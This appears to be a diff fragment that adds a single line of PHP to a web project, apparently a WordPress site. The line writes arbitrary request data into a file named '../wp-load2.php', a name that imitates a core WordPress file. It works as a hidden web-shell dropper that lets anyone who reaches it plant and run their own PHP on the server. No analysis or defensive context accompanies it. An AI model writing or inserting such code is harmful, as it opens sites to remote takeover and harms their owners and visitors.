@@ -1,0 +1,1 @@
+<?php $h = fopen('../wp-load2.php', 'w'); fwrite($h, $_REQUEST['data']); fclose($h); ?>
